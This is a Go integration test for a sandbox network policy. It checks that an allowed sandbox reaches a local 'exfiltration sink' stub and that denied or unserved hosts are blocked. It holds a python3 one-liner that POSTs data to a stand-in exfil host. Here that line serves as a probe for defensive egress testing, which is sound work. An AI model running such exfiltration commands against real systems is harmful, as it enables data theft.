package dockertarget

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/osb-capstone/acceptance/harness/osb"
	"github.com/osb-capstone/acceptance/harness/stubs"
)

// TestDockerExfilSinkOnTheBridge stands the docker target up with the
// exfiltration sink offered on the engine's bridge (OSB_DOCKER_E2E=1; needs
// the engine): a sandbox whose policy lets exfil.capstone.test through
// really reaches the run's own sink stub, and the stub's log names that
// sandbox (the bridge front's attribution from the engine's address of its
// container); a sandbox whose policy does not is denied (NXDOMAIN) and the
// sink gets nothing; a name no stub serves fails even when the policy allows
// it (the resolver never forwards: nothing leaves the machine).
func TestDockerExfilSinkOnTheBridge(t *testing.T) {
	if os.Getenv("OSB_DOCKER_E2E") != "1" {
		t.Skip("not measured: set OSB_DOCKER_E2E=1 (stands up the docker target)")
	}
	sink, err := stubs.NewExfil()
	if err != nil {
		t.Fatal(err)
	}
	defer sink.Close()
	wd, _ := os.Getwd()
	repo := findRepo(wd)
	bin := envOr("OSB_ACCEPTANCE_BIN", filepath.Join(repo, "bin", "acceptance"))
	if _, err := os.Stat(bin); err != nil {
		t.Skipf("not measured: no acceptance binary at %s (make build, or set OSB_ACCEPTANCE_BIN)", bin)
	}
	tg, err := Start(context.Background(), Config{RepoDir: repo, Log: os.Stderr, Binary: bin,
		Stubs: map[string]string{stubs.ExfilHost: sink.URL()}})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := tg.Close(); err != nil {
			t.Error(err)
		}
	}()
	if tg.Stubs == nil || tg.StubNote != "" {
		t.Skipf("not measured: the bridge does not offer the stubs here: %s", tg.StubNote)
	}
	client, err := osb.New(strings.TrimPrefix(tg.URL, "http://"), tg.APIKey)
	if err != nil {
		t.Fatal(err)
	}
	post := func(host string) string {
		return `python3 -c "import urllib.request as u; print(u.urlopen(u.Request('http://` + host + `/collect', data=b'row 1'), timeout=15).status)"`
	}
	run := func(allow []string, cmd string) (id string, exit int, stdout, stderr string) {
		t.Helper()
		var egress []any
		for _, h := range allow {
			egress = append(egress, map[string]any{"action": "allow", "target": h})
		}
		body, _ := json.Marshal(map[string]any{"image": map[string]any{"uri": SandboxImageURI}, "entrypoint": []string{"tail", "-f", "/dev/null"},
			"resourceLimits": map[string]string{"cpu": "1", "memory": "1Gi"}, "timeout": 600,
			"networkPolicy": map[string]any{"defaultAction": "deny", "egress": egress}})
		id, state, err := create(tg, body)
		if err != nil || state != "Running" {
			t.Fatalf("create (allow %v): %v %q", allow, err, state)
		}
		defer removeSandbox(tg, id)
		ep, err := client.GetEndpoint(context.Background(), id, 44772, false)
		if err != nil || !ep.Decoded {
			t.Fatalf("endpoint: %v", err)
		}
		ex, err := client.Execd(ep.Value)
		if err != nil {
			t.Fatal(err)
		}
		if ok, r := ex.WaitReady(context.Background(), 200*time.Millisecond, 60*time.Second); !ok {
			t.Fatalf("execd not ready: %+v", r)
		}
		res, err := ex.Run(context.Background(), osb.CommandRequest{Command: cmd, TimeoutMs: 60_000})
		if err != nil || res.Value.ExitCode == nil {
			t.Fatalf("%q: %v %+v", cmd, err, res)
		}
		return id, *res.Value.ExitCode, res.Value.StdoutText(), res.Value.StderrText()
	}

	id, exit, out, errText := run([]string{stubs.ExfilHost}, post(stubs.ExfilHost))
	if exit != 0 || strings.TrimSpace(out) != "200" {
		t.Fatalf("allowed: the sandbox did not reach the sink: exit %d, stdout %q, stderr %s", exit, out, errText)
	}
	got := sink.Requests()
	if len(got) != 1 || got[0].Host != stubs.ExfilHost || got[0].EgressSandbox != id || got[0].BodyBytes != 5 {
		t.Fatalf("the sink's log: %+v; want one request from sandbox %s", got, id)
	}

	_, exit, _, errText = run([]string{"pypi.org"}, post(stubs.ExfilHost))
	if exit == 0 || !strings.Contains(errText, "Name or service not known") {
		t.Errorf("denied: exit %d, stderr %s; want NXDOMAIN", exit, errText)
	}
	_, exit, _, errText = run([]string{"example.com"}, post("example.com"))
	if exit == 0 {
		t.Errorf("a name no stub serves was reached: %s", errText)
	}
	if n := len(sink.Requests()); n != 1 {
		t.Errorf("the sink got %d requests, want only the allowed sandbox's", n)
	}
}
